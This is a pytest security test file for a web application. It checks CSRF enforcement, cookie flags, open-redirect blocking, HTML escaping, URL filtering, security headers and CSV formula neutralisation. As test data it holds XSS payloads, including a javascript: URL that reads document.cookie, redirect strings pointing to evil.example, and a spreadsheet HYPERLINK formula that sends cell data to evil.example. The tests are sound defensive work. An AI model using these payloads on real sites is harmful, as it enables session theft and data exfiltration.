"""CSRF on every state-changing page request, the API never authenticated by the session cookie, the
session cookie's flags and a fresh session at login, no open redirect, and pages that cannot be made to
run a script: autoescaping, `tojson` inside `<script type="application/json">`, only http(s) links from
outside data, and `dir="auto"` on people's text."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient

from peyvand.services.ingest import ingest_records
from peyvand.settings import load_settings
from peyvand.sources.base import Record
from peyvand.web.app import create_app
from peyvand.web.render import Renderer, csv_cell, http_url
from security.routes import app_routes
from security.security_data import WorkspaceObjects
from security.test_workspace_scope import _values
from tests_support import PASSWORD, Site

STATE_CHANGING = {"POST", "PUT", "PATCH", "DELETE"}


def test_every_state_changing_page_route_depends_on_verify_csrf(site: Site) -> None:
    routes = [r for r in app_routes(site.client.app) if r.method in STATE_CHANGING]  # type: ignore[arg-type]
    pages = [r for r in routes if r.is_page]
    assert len(pages) >= 40  # the enumeration found them
    assert [r.path for r in pages if "verify_csrf" not in r.dependencies] == []
    # and the API authenticates with a token or a signature, never with the session
    assert [r.path for r in routes if not r.is_page and "current_viewer" in r.dependencies] == []


@pytest.mark.parametrize("token", [None, "wrong-token"])
def test_every_state_changing_page_request_without_the_token_is_refused(
    site: Site, token: str | None
) -> None:
    site.login("admin-user")
    for route in app_routes(site.client.app):  # type: ignore[arg-type]
        if route.method not in STATE_CHANGING or not route.is_page:
            continue
        url = route.fill(dict.fromkeys(route.params, 1))
        data = (
            {"text": "x", "status": "resolved", "name": "x", "csrf_token": token} if token else {"text": "x"}
        )
        response = site.client.request(route.method, url, data=data)
        assert response.status_code == 403 and "CSRF" in response.text, (url, response.status_code)


def test_the_session_cookie_does_not_authenticate_api_writes(site: Site) -> None:
    site.login("admin-user")  # the client now carries a signed-in admin's session cookie
    item = {"id": "cookie-1", "source": "x", "kind": "comment", "created_at": "2026-03-01T10:00:00Z",
            "text": "sent with a cookie"}  # fmt: skip
    token = site.csrf("/pr")
    headers = {"X-CSRF-Token": token, "Content-Type": "application/json"}
    for path in ("/api/v1/items", "/api/v1/items:batch", "/api/v1/imports"):
        answer = site.client.post(path, content=json.dumps(item), headers=headers)
        assert answer.status_code == 401, (path, answer.text)
    assert site.client.get("/api/v1/imports/1").status_code == 401
    assert "sent with a cookie" not in site.client.get("/pr").text


def test_session_cookie_flags_and_a_fresh_session_at_login(site: Site, store: Any) -> None:
    token = site.csrf("/login")
    before = site.client.cookies.get("peyvand_session")
    response = site.client.post(
        "/login", data={"username": "pr-user", "password": PASSWORD, "csrf_token": token, "next": "/"}
    )
    cookie = response.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie and "path=/" in cookie
    assert "secure" not in cookie  # PEYVAND_SECURE_COOKIES is off in the tests
    assert site.client.cookies.get("peyvand_session") != before
    settings = load_settings(database_url="sqlite://", secret_key="k" * 32, secure_cookies=True)
    with TestClient(create_app(settings, store=store, start_worker=False), base_url="https://t") as tls:
        page = tls.get("/login")
        assert "; secure" in page.headers["set-cookie"].lower()


OPEN_REDIRECTS = [
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https://evil.example/",
    "http:evil.example",
    "/\t/evil.example",
    "/%09/evil.example",
    "javascript:alert(1)",
    " //evil.example",
]


@pytest.mark.parametrize("target", OPEN_REDIRECTS)
def test_next_never_leaves_the_site(site: Site, target: str) -> None:
    token = site.csrf("/login")
    response = site.client.post(
        "/login", data={"username": "pr-user", "password": PASSWORD, "csrf_token": token, "next": target}
    )
    location = response.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\", "/%5C")), location
    assert urlsplit(location.replace("\\", "/")).netloc == "" and "\t" not in location
    for path in ("/locale", "/preferences"):
        moved = site.client.post(
            path,
            data={"locale": "en", "calendar": "gregorian", "next": target, "csrf_token": site.csrf("/pr")},
        )
        again = moved.headers["location"]
        assert again.startswith("/") and urlsplit(again.replace("\\", "/")).netloc == "", (path, again)


def test_the_login_redirect_keeps_the_whole_address(site: Site) -> None:
    response = site.client.get("/pr/inbox?status=all&priority=high")
    assert response.status_code == 303
    assert response.headers["location"] == "/login?next=%2Fpr%2Finbox%3Fstatus%3Dall%26priority%3Dhigh"
    page = site.client.get(response.headers["location"])
    assert 'value="/pr/inbox?status=all&amp;priority=high"' in page.text


HOSTILE = {
    "id": "xss-1",
    "source": "feed",
    "kind": "comment",
    "created_at": "2026-03-07T10:00:00Z",
    "title": "<b>bold</b> title",
    "text": "</script><script>alert('text')</script> متن <img src=x onerror=alert(1)>",
    "author": {"handle": "<svg/onload=alert(2)>", "name": "<i>Name</i>"},
    "url": " JaVaScRiPt:alert(document.cookie)",
}


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://news.example/a?b=1", "https://news.example/a?b=1"),
        ("http://news.example", "http://news.example"),
        ("javascript:alert(1)", None),
        (" JaVaScRiPt:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html;base64,PHNjcmlwdD4=", None),
        ("vbscript:msgbox(1)", None),
        ("//news.example/a", None),
        ("https:/news.example", None),
        ("", None),
        (None, None),
    ],
)
def test_only_web_addresses_are_linked(url: str | None, linked: str | None) -> None:
    assert http_url(url) == linked


def test_outside_text_and_addresses_cannot_run_a_script(site: Site) -> None:
    app: Any = site.client.app
    ingest_records(app.state.store, site.workspace, [Record("1", item=HOSTILE)], label="t", format="t")
    site.login("admin-user")
    desk = site.client.get("/pr").text
    conversation_id = next(
        r["id"]
        for r in site.client.get("/pr/inbox", params={"format": "json"}).json()
        if r["source"] == "feed"
    )
    thread = site.client.get(f"/pr/conversations/{conversation_id}").text
    inbox = site.client.get("/pr/inbox").text
    for page in (desk, thread, inbox):
        assert "<script>alert" not in page and "<img src=x" not in page and "<svg/onload" not in page
        assert not re.search(r"""href=["']?\s*javascript:""", page, re.I)
    assert "&lt;/script&gt;&lt;script&gt;alert(" in desk
    assert "JaVaScRiPt:alert(document.cookie)" in thread  # shown as text, not as a link


def test_tojson_in_a_json_script_element_cannot_close_it() -> None:
    renderer = Renderer(load_settings(database_url="sqlite://"))
    template = renderer.templates.env.from_string(
        '<script type="application/json" id="x-chart-data">{{ spec | tojson }}</script>'
    )
    spec = {"title": "</script><script>alert(1)</script><!--", "and": "a & b 'c'"}
    html = template.render(spec=spec)
    inside = html.removeprefix('<script type="application/json" id="x-chart-data">').removesuffix("</script>")
    assert "<" not in inside and ">" not in inside and "&" not in inside and "'" not in inside
    assert json.loads(inside) == spec


class _DirAuto(HTMLParser):
    """Which text chunks containing a marker sit inside an element with dir="auto"."""

    VOID = {"br", "img", "input", "meta", "link", "hr", "wbr", "source", "col"}

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker, self.stack, self.found = marker, [], []  # type: ignore[var-annotated]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.VOID:
            self.stack.append((tag, dict(attrs).get("dir")))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data: str) -> None:
        if self.marker in data:
            self.found.append((data.strip()[:60], any(d in ("auto", "rtl", "ltr") for _, d in self.stack)))


def _without_dir(html: str, marker: str) -> list[str]:
    parser = _DirAuto(marker)
    parser.feed(html)
    return [text for text, ok in parser.found if not ok]


def test_peoples_text_is_shown_with_dir_auto(site: Site) -> None:
    """Persian and English mix in one page: text from outside gets its own direction (dir="auto")."""
    app: Any = site.client.app
    item = {"id": "dir-1", "source": "instagram", "kind": "direct_message",
            "created_at": "2026-03-08T10:00:00Z", "text": "Zqxdir سلام hello",
            "author": {"handle": "zqxdirhandle", "name": "Zqxdirname"}}  # fmt: skip
    ingest_records(app.state.store, site.workspace, [Record("1", item=item)], label="t", format="t")
    site.login("admin-user")
    rows = site.client.get("/pr/inbox", params={"format": "json"}).json()
    conversation_id = next(r["id"] for r in rows if r["person"] == "Zqxdirname")
    token = site.csrf(f"/pr/conversations/{conversation_id}")
    site.client.post(
        f"/pr/conversations/{conversation_id}/notes", data={"text": "Zqxdir note", "csrf_token": token}
    )
    site.client.post(
        f"/pr/conversations/{conversation_id}/handoff", data={"note": "Zqxdir handoff", "csrf_token": token}
    )
    pages = ["/pr", "/pr/inbox", f"/pr/conversations/{conversation_id}", "/exchange"]
    missing = {p: _without_dir(site.client.get(p).text, "Zqxdir") for p in pages}
    assert {p: m for p, m in missing.items() if m} == {}


def test_pages_cannot_be_framed_and_say_what_they_are(site: Site) -> None:
    for response in (
        site.client.get("/login"),
        site.client.get("/no-such-page"),
        site.client.get("/api/v1/x"),
    ):
        assert response.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        assert response.headers["cache-control"] == "no-store"
    plotly = site.client.get("/vendor/plotly.min.js")
    assert (
        plotly.headers["cache-control"].startswith("public") and plotly.headers["x-frame-options"] == "DENY"
    )
    assert "no-store" not in site.client.get("/static/peyvand.css").headers.get("cache-control", "")


def test_csv_downloads_do_not_hand_spreadsheets_a_formula(site: Site) -> None:
    """Message text comes from outside; a cell starting with = + - @ would run in Excel or LibreOffice."""
    app: Any = site.client.app
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    item = {"id": "csv-1", "source": "x", "kind": "comment", "created_at": "2026-03-09T10:00:00Z",
            "text": formula, "author": {"handle": "@formula"}}  # fmt: skip
    ingest_records(app.state.store, site.workspace, [Record("1", item=item)], label="t", format="t")
    site.login("admin-user")
    rows = list(csv.DictReader(io.StringIO(site.client.get("/pr", params={"format": "csv"}).text)))
    mine = next(r for r in rows if r["external_id"] == "csv-1")
    assert mine["text"] == "'" + formula and mine["author"] == "'@formula"
    assert float(next(r for r in rows if r["sentiment_score"])["sentiment_score"]) is not None
    assert csv_cell("-0.5") == "-0.5" and csv_cell(-0.5) == -0.5 and csv_cell("+98 21 555") == "'+98 21 555"
    as_json = site.client.get("/pr", params={"format": "json"}).json()
    assert next(r for r in as_json if r["external_id"] == "csv-1")["text"] == formula  # JSON is unchanged


def test_every_page_shows_outside_text_with_its_own_direction(site: Site, rich: WorkspaceObjects) -> None:
    """All the workspace's pages, as an admin (who sees everything): each piece of text from outside (the
    markers of `security_data`) sits in an element with a `dir`."""
    site.login("admin-user")
    missing, shown = {}, 0
    for route in app_routes(site.client.app):  # type: ignore[arg-type]
        if route.method == "GET" and route.is_page:
            url = route.fill(_values(route, rich))
            page = site.client.get(url)
            if page.headers.get("content-type", "").startswith("text/html"):
                missing[url] = _without_dir(page.text, "Zqx")
                shown += "Zqx" in page.text
    assert {url: m for url, m in missing.items() if m} == {}
    assert shown >= 5  # the markers were on the pages


def test_an_unknown_page_is_a_page_and_an_unknown_api_path_is_json(site: Site) -> None:
    site.login("pr-user")
    page = site.client.get("/no-such-page")
    assert page.status_code == 404 and page.headers["content-type"].startswith("text/html")
    assert '<p><a href="/">' in page.text and "Not found." in page.text  # the app's page, a way back
    assert 'href="/pr"' in page.text  # signed in: the navigation is there
    wrong_method = site.client.delete("/pr")
    assert wrong_method.status_code == 405 and wrong_method.headers["content-type"].startswith("text/html")
    api = site.client.get("/api/v1/no-such-endpoint")
    assert api.status_code == 404 and api.json() == {"detail": "Not Found"}
